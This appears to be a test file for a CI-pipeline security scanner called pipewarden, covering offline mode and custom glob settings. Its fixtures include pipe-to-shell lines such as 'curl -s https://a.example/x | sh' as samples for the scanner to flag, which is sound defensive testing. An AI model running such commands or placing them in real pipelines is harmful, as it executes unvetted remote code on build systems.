import assert from "node:assert/strict";
import { useFolders } from "../support/folder.ts";
import { breach, pipewarden } from "./command-line.ts";

describe("the command line without the network", () => {
  const makeFolder = useFolders();

  it("refuses what needs it, with one message", async () => {
    const folder = makeFolder({ ".github/workflows/ci.yml": breach });
    for (const command of ["fix", "verify"]) {
      const { code, out, err } = await pipewarden([command, "--offline"], folder);
      assert.deepEqual([code, out], [2, ""]);
      assert.equal(
        err,
        `pipewarden: --offline forbids to ask the network, and ${command} can do nothing without it.\n`,
      );
    }
    assert.equal((await pipewarden(["scan", "--offline"], folder)).code, 1);
  });

  it("asks nothing for a repository whose settings forbid it", async () => {
    const folder = makeFolder({ ".github/workflows/ci.yml": breach, ".pipewarden.yml": "network: {enabled: false}\n" });
    const { out } = await pipewarden(["fix", "--dry-run"], folder);
    assert.equal(out, "");
    const { err } = await pipewarden(["fix", "--dry-run"], folder);
    assert.match(err, /network\.enabled in \.pipewarden\.yml forbids to ask the network/);
  });
});

describe("files that the settings give to a CI system", () => {
  const makeFolder = useFolders();
  const script = "job:\n  script:\n    - curl -s https://a.example/x | sh\n";

  it("are scanned whatever their names are, in the folder around them and named alone, and as that system alone", async () => {
    const folder = makeFolder({
      ".git/HEAD": "",
      ".pipewarden.yml": "globs: {gitlab-ci: ['ci/**/*.tpl', odd.yml]}\n",
      "ci/deep/job.tpl": script,
      "ci/notes.txt": script,
      "odd.yml": `steps: [{image: a, commands: [curl -s https://b.example/x | sh]}]\n${script}`,
      "plain.tpl": script,
    });
    for (const args of [["scan"], ["scan", folder], ["scan", "ci/deep/job.tpl", "odd.yml"]]) {
      const { out } = await pipewarden(args, folder);
      assert.match(out, /job\.tpl\n\s+3:7 /, args.join(" "));
      assert.match(out, /odd\.yml\n\s+4:7 /, args.join(" "));
      assert.doesNotMatch(out, /notes|plain|b\.example/, args.join(" "));
      assert.match(out, /2 CI files read/, args.join(" "));
    }
  });
});
